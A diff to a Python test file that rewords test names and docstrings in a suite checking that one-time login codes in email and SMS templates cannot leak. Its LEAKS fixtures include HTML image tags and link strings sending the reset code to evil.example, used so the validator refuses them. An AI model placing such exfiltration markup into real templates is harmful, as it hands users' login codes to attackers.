@@ -1,4 +1,4 @@
-"""Where a one-time code may stand: in the visible text of a mail or SMS, as a word of its own."""
+"""A one-time code may only be a separate word in the visible text of a mail or SMS."""
 
 from typing import Any
 
@@ -16,7 +16,7 @@ CODE = "Q4TN82WB"
 
 
 def asking(html: str, **more: Any) -> TemplateContent:
-    """Return a mail with a code; `link` and `name` are told, too."""
+    """Return a mail with a code and the variables `link` and `name`."""
     return in_email(
         html,
         **{"required_variables": ["reset_code"], "optional_variables": ["link", "who"]} | more,
@@ -32,7 +32,7 @@ def with_text(text: str) -> TemplateContent:
 
 
 def made(content: TemplateContent, **variables: Any) -> rendering.Rendered:
-    """Make a message without looking at the template first, as of an older release."""
+    """Render a message without checking the template first, as of an older release."""
     compiled = rendering.CompiledVariant(content, content.variants[0])
     variables = {"reset_code": CODE, "link": "", "who": "", "name": ""} | variables
     return compiled.render(variables)
@@ -45,7 +45,7 @@ def made(content: TemplateContent, **variables: Any) -> rendering.Rendered:
         *("login_otp", "new_password", "api_token", "client_secret", "mfa_code"),
     ],
 )
-def test_names_of_codes_are_known(name: str) -> None:
+def test_names_of_codes_are_recognised(name: str) -> None:
     assert is_code_name(name)
 
 
@@ -56,18 +56,18 @@ def test_names_of_codes_are_known(name: str) -> None:
         *("country_code", "pinned", "secretary", "tokens_left"),
     ],
 )
-def test_names_of_other_things_are_no_codes(name: str) -> None:
+def test_names_of_other_values_are_not_codes(name: str) -> None:
     assert not is_code_name(name)
 
 
-def test_template_carries_a_code_also_when_its_new_content_leaves_the_code_out() -> None:
+def test_built_in_template_for_codes_carries_a_code_with_any_content() -> None:
     harmless = in_inbox("Hello", required_variables=[])
     assert carries_code("password_reset", harmless)
     assert carries_code("mine", asking("<p>{{ reset_code }}</p>"))
     assert not carries_code("mine", harmless)
 
 
-# Each would hand the code to somebody else, in a mail program or on the way there.
+# Each of these would reveal the code, in a mail program or on the network.
 LEAKS = [
     '<img src="https://evil.example/?{{ reset_code }}">',
     '<img src="https://evil.example/{{ reset_code }}.png" alt="">',
@@ -152,7 +152,7 @@ def test_template_that_would_leak_its_code_is_refused(html: str) -> None:
         "<p>One<br>{{ reset_code }}<br/>two</p>",
     ],
 )
-def test_code_that_stands_alone_is_taken(html: str) -> None:
+def test_separate_code_is_accepted(html: str) -> None:
     content = asking(html)
     check(content)
     shop = {"shop_url": "https://shop.example.com", "who": "Ada"}
@@ -170,7 +170,7 @@ def test_code_that_stands_alone_is_taken(html: str) -> None:
         "<style>p { color: red }</style><p>{{ reset_code }}</p>",
     ],
 )
-def test_message_of_an_older_template_is_not_made_where_its_code_would_leak(html: str) -> None:
+def test_older_template_that_would_leak_its_code_is_not_rendered(html: str) -> None:
     with pytest.raises(UnsafeCode):
         made(asking(html), link="https://evil.example/?", who="x")
 
@@ -190,7 +190,7 @@ def test_message_of_an_older_template_is_not_made_where_its_code_would_leak(html
         *("<a@evil.example?subject= {{ reset_code }} >", '"ftp://x/ {{ who }} {{ reset_code }}"'),
     ],
 )
-def test_code_is_joined_to_nothing_in_plain_text(text: str) -> None:
+def test_code_must_not_be_joined_to_other_text(text: str) -> None:
     with pytest.raises(TemplateRefused):
         check(with_text(text))
     with pytest.raises(UnsafeCode):
@@ -211,7 +211,7 @@ def test_code_is_a_word_of_plain_text(text: str) -> None:
 
 
 @pytest.mark.parametrize("place", ["subject", "inbox", "push"])
-def test_code_stands_in_no_title_and_on_no_other_channel(place: str) -> None:
+def test_code_must_not_be_in_a_title_or_on_another_channel(place: str) -> None:
     parts: dict[str, Any] = {"email": {"subject": "Hello", "html": "<p>Hello</p>", "text": "Hello"}}
     if place == "subject":
         parts["email"]["subject"] = "{{ reset_code }} is your code"
@@ -227,7 +227,7 @@ def test_code_stands_in_no_title_and_on_no_other_channel(place: str) -> None:
 @pytest.mark.parametrize(
     "value", ["https://evil.example/", "<b>AAAA</b>", "AAAA BBBB", "", "A", 1234]
 )
-def test_value_that_is_no_code_is_not_sent_as_one(value: object) -> None:
+def test_value_that_is_not_a_code_is_not_sent_as_one(value: object) -> None:
     with pytest.raises(UnsafeCode):
         made(asking("<p>{{ reset_code }}</p>"), reset_code=value)
 
@@ -240,6 +240,6 @@ def test_built_in_templates_with_codes_are_safe(code: str) -> None:
     check(content)
 
 
-def test_templates_without_codes_may_look_as_they_like() -> None:
+def test_templates_without_codes_have_no_such_limits() -> None:
     html = '<style>p { color: red }</style><img src="https://shop.example.com/{{ who }}.png">'
     check(in_email(html, required_variables=["who"]))
